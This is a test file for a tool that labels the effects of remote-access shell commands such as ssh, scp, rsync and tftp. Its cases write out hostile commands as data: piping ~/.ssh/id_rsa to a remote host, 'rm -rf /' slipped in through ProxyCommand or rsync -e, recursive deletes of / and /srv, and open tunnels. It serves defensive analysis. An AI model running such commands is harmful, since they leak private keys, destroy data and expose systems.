/** Tests what programs of remote machines are said to do. */
import assert from "node:assert/strict";
import { REMOTE } from "../../../src/facts/programs/remote.ts";
import { told, untried } from "./told.ts";

const CASES: readonly (readonly [string, readonly string[]])[] = [
  ["tftp 10.0.0.1 -c put a", [
    "read /home/dev/project/a",
    "send file to 10.0.0.1",
  ]],
  ["ssh host.example", ["send nothing to host.example"]],
  ["ssh host.example rm -rf /srv", [
    "send data to host.example",
    "delete tree /srv (remote)",
  ]],
  ["ssh -p 2222 user@host.example 'rm -rf /srv'", [
    "send data to host.example",
    "delete tree /srv (remote)",
  ]],
  ["ssh -o ProxyCommand='rm -rf /' host.example", [
    "delete tree /",
    "send nothing to host.example",
  ]],
  ["ssh -voProxyCommand='rm -rf /' host.example", [
    "delete tree /",
    "send nothing to host.example",
  ]],
  ["ssh -o StrictHostKeyChecking=no host.example", [
    "send nothing to host.example",
  ]],
  ["cat ~/.ssh/id_rsa | ssh host.example 'cat > x'", [
    "read /home/dev/.ssh/id_rsa",
    "send secret to host.example",
    "write x (remote)",
  ]],
  ["ssh -n host.example ls < a", [
    "read /home/dev/project/a",
    "send data to host.example",
    "list . (remote)",
  ]],
  ["ssh -V", []],
  ["sshpass -p x ssh host.example ls", [
    "send data to host.example",
    "list . (remote)",
  ]],
  ["scp a host.example:/tmp/", [
    "read /home/dev/project/a",
    "send file to host.example",
  ]],
  ["scp host.example:/tmp/a .", [
    "send nothing to host.example",
    "write /home/dev/project/a",
  ]],
  ["scp -r certs host.example:/tmp/", [
    "read /home/dev/project/certs",
    "send file to host.example",
  ]],
  ["scp -S 'evil' a host.example:b", [
    "read /home/dev/project/a",
    "send file to host.example",
  ]],
  ["rsync -a src/ host.example:/srv/", [
    "read /home/dev/project/src",
    "send file to host.example",
  ]],
  ["rsync --delete src/ /", [
    "delete tree /",
    "read /home/dev/project/src",
    "write /",
  ]],
  ["rsync --del src/ host.example:/srv/", [
    "delete tree /srv (remote)",
    "read /home/dev/project/src",
    "send file to host.example",
  ]],
  ["rsync -n --delete src/ /", []],
  ["rsync --list-only src/", []],
  ["rsync -e 'rm -rf /' a h.example:b", [
    "delete tree /",
    "read /home/dev/project/a",
    "send file to h.example",
  ]],
  ["rsync --remove-source-files -a a b", [
    "read /home/dev/project/a",
    "write /home/dev/project/b",
    "delete tree /home/dev/project/a",
  ]],
  ["rsync -avz a b", ["read /home/dev/project/a", "write /home/dev/project/b"]],
  ["sftp host.example", ["send nothing to host.example"]],
  ["lftp -e 'put a' host.example", [
    "read /home/dev/project/a",
    "send file to host.example",
  ]],
  ["ssh-keyscan host.example", ["send nothing to host.example"]],
  ["ssh-copy-id host.example", [
    "send nothing to host.example",
    "append ~/.ssh/authorized_keys (remote)",
  ]],
  ["ssh -R 80:localhost:80 host.example", [
    "send nothing to host.example",
    "send nothing to host.example",
  ]],
  ["ssh-agent rm -rf /", ["delete tree /"]],
  ["ssh -N -D 0.0.0.0:1080 a@b.example", [
    "send nothing to b.example",
    "send nothing to b.example",
  ]],
  ["ssh -N -D 1080 a@b.example", ["send nothing to b.example"]],
  ["ssh -N -L '*:80:localhost:80' a@b.example", [
    "send nothing to b.example",
    "send nothing to b.example",
  ]],
];

for (const [command, wanted] of CASES) {
  Deno.test(`REMOTE: ${command}`, () => {
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("REMOTE has a case for every row", () => {
  assert.deepEqual(untried(REMOTE, CASES.map(([command]) => command)), []);
});
